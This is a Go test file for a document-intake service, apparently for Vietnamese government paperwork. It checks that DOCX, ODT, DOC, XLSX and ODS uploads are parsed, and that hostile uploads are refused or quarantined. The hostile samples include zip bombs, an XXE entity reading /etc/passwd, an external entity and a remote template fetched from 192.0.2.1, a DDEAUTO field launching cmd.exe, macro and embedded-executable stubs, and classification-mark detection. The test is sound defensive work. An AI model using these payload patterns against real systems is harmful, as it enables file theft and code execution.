package intake_test

import (
	"archive/zip"
	"bytes"
	"os"
	"strings"
	"testing"

	"minhchung/internal/intake"
	"minhchung/internal/intake/sniff"
)

func sample(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("office/testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestOfficeDocumentsAreTakenAndRead(t *testing.T) {
	t.Parallel()
	r := reader(t)
	for name, c := range map[string]struct {
		kind  string
		pages int
		says  string
	}{
		"to-trinh.docx": {sniff.DOCX, 2, "Nguyễn Thị Hồng Ánh"},
		"to-trinh.odt":  {sniff.ODT, 2, "Nguyễn Thị Hồng Ánh"},
		"to-trinh.doc":  {sniff.DOC, 1, "Nguyễn Thị Hồng Ánh"}, // catdoc tells no pages
		"bang.xlsx":     {sniff.XLSX, 1, "Báo cáo tháng | 2026-03-12 | 12.5"},
		"bang.ods":      {sniff.ODS, 1, "Báo cáo tháng | 2026-03-12 | 12.5"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if c.kind == sniff.DOC && !r.Tools().Catdoc {
				t.Skip("catdoc is not installed")
			}
			b := sample(t, name)
			look := refusedAs(t, r, name, b, "")
			if look.MediaType != c.kind || look.Pages != c.pages {
				t.Errorf("%+v", look)
			}
			f, err := r.Read(t.Context(), file(t, name, b), nil, nil)
			if err != nil || f.MediaType != c.kind || f.Pages != c.pages || len(f.Text) != c.pages || len(f.Problems) != 0 {
				t.Fatalf("%+v %v", f, err)
			}
			if last := f.Text[len(f.Text)-1].Text; !strings.Contains(last, c.says) {
				t.Errorf("no %q in:\n%s", c.says, last)
			}
			if g := guesses(f); strings.HasPrefix(name, "to-trinh") && (g["number"] != "45" || g["symbol"] != "TTr-SNV" || g["issued_on"] != "2026-03-12" || g["issuer"] != "SỞ NỘI VỤ") {
				t.Errorf("fields %v of\n%s", g, f.Text[0].Text)
			}
		})
	}
}

// changed returns an archive with parts replaced or added.
func changed(t testing.TB, b []byte, parts map[string]string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for _, f := range z.File {
		if _, ok := parts[f.Name]; !ok {
			if err := w.Copy(f); err != nil {
				t.Fatal(err)
			}
		}
	}
	for name, s := range parts {
		p, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		p.Write([]byte(s))
	}
	w.Close()
	return out.Bytes()
}

func TestHostileOfficeDocuments(t *testing.T) {
	t.Parallel()
	r := reader(t)
	docx, xlsx, odt := sample(t, "to-trinh.docx"), sample(t, "bang.xlsx"), sample(t, "to-trinh.odt")
	spaces := strings.Repeat(" ", 250<<20)
	body := func(s string) map[string]string {
		return map[string]string{"word/document.xml": `<w:document xmlns:w="w"><w:body>` + s + `</w:body></w:document>`}
	}
	many := map[string]string{}
	for i := range 10_001 {
		many["p"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+strings.Repeat("y", i/26)] = ""
	}
	for _, c := range []struct {
		name, upload string
		b            []byte
		want         string
		held         bool
	}{
		{"a DOCX that unpacks to 250 MB", "a.docx", changed(t, docx, body(spaces)), "upload.bomb", false},
		{"an XLSX that unpacks to 250 MB", "a.xlsx", changed(t, xlsx, map[string]string{"xl/worksheets/sheet1.xml": spaces}), "upload.bomb", false},
		{"an archive of ten thousand parts", "a.docx", changed(t, docx, many), "upload.bomb", false},
		{"an entity from a file", "a.docx", changed(t, docx, map[string]string{"word/document.xml": `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>`}), "upload.active", true},
		{"entities that multiply, in a part that is not read", "a.xlsx", changed(t, xlsx, map[string]string{"xl/theme/theme9.xml": `<!DOCTYPE d [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><d>&b;</d>`}), "upload.active", true},
		{"an entity in an ODT", "a.odt", changed(t, odt, map[string]string{"content.xml": `<!DOCTYPE d [<!ENTITY x SYSTEM "http://192.0.2.1/">]><d>&x;</d>`}), "upload.active", true},
		{"a macro project in a DOCX", "a.docx", changed(t, docx, map[string]string{"word/vbaProject.bin": "x"}), "upload.active", true},
		{"macros in an XLSX", "a.xlsx", changed(t, xlsx, map[string]string{"xl/vbaProject.bin": "x"}), "upload.active", true},
		{"macros in an ODT", "a.odt", changed(t, odt, map[string]string{"Basic/Standard/Module1.xml": "<a/>"}), "upload.active", true},
		{"a DDE field", "a.docx", changed(t, docx, body(`<w:p><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" </w:instrText></w:r></w:p>`)), "upload.active", true},
		{"a template from elsewhere", "a.docx", changed(t, docx, map[string]string{"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"/></Relationships>`}), "upload.active", true},
		{"a program inside", "a.docx", changed(t, docx, map[string]string{"word/embeddings/oleObject1.bin": "MZ\x90\x00"}), "upload.active", true},
		{"a template of the author's own", "a.docx", changed(t, docx, map[string]string{"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/></Relationships>`}), "", false},
		{"a hyperlink", "a.docx", changed(t, docx, map[string]string{"word/_rels/document.xml.rels": `<Relationships><Relationship Id="r" Type="http://x/hyperlink" Target="http://192.0.2.1/" TargetMode="External"/></Relationships>`}), "", false},
		{"a DOCX that is an ODT", "a.docx", changed(t, docx, map[string]string{"mimetype": sniff.ODT, "content.xml": "<a/>"}), "upload.unsupported", false},
		{"a PDF before a DOCX", "a.docx", append([]byte(smallPDF), docx...), "upload.unsupported", false},
		{"a cut DOCX", "a.docx", docx[:len(docx)/2], "upload.truncated", false},
		{"a DOCX without its document", "a.docx", changed(t, docx, map[string]string{"word/document.xml": "<"}), "upload.truncated", false},
		{"elements nested without end", "a.docx", changed(t, docx, body(strings.Repeat("<w:p>", 100_000))), "upload.truncated", false},
		{"tables nested without end", "a.docx", changed(t, docx, body(strings.Repeat("<w:tbl><w:tr><w:tc>", 30_000))), "upload.truncated", false},
		{"an old file of no known kind", "a.doc", append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), make([]byte, 600)...), "upload.truncated", false},
		{"a cut DOC", "a.doc", sample(t, "to-trinh.doc")[:4000], "upload.truncated", false},
		{"a mark of classification", "kế hoạch secret.docx", changed(t, docx, body("<w:p><w:r><w:t>SỞ NỘI VỤ</w:t></w:r></w:p><w:p><w:r><w:t>TỐI MẬT</w:t></w:r></w:p>")), "upload.classified", false},
		{"a mark in the header", "a.docx", changed(t, docx, map[string]string{"word/header1.xml": `<w:hdr xmlns:w="w"><w:p><w:r><w:t>TUYỆT MẬT</w:t></w:r></w:p></w:hdr>`}), "upload.classified", false},
		{"a mark in a text box", "a.docx", changed(t, docx, body("<w:p><w:r><w:drawing><wps:txbx xmlns:wps='x'><w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:txbxContent></wps:txbx></w:drawing></w:r></w:p>")), "upload.classified", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			look := refusedAs(t, r, c.upload, c.b, c.want)
			if (look.Held != nil) != c.held || c.held && (look.Held.Reason != "upload.quarantined" || look.Held.Msg.Vi == "") {
				t.Errorf("held: %v", look.Held)
			}
			f, err := r.Read(t.Context(), file(t, c.upload, c.b), nil, nil)
			if err != nil || c.want != "" && c.want != "upload.classified" && len(f.Problems) == 0 || c.held && !has(f, "file.active") {
				t.Errorf("read: %+v %v", f.Problems, err)
			}
			t.Log(look.Problem, f.Problems)
		})
	}
	refusedAs(t, r, "a.docx", docx, "")
}

const smallPDF = "%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"

func TestWithoutCatdocADOCIsKeptAndNotRead(t *testing.T) {
	t.Parallel()
	r := reader(t, func(c *intake.Config) { c.Without = []string{"catdoc"} })
	b := sample(t, "to-trinh.doc")
	if look := refusedAs(t, r, "a.doc", b, ""); look.MediaType != sniff.DOC {
		t.Errorf("%+v", look)
	}
	f, err := r.Read(t.Context(), file(t, "a.doc", b), nil, nil)
	if err != nil || !has(f, "read.doc") || f.TextChars != 0 {
		t.Errorf("%+v %v", f, err)
	}
}
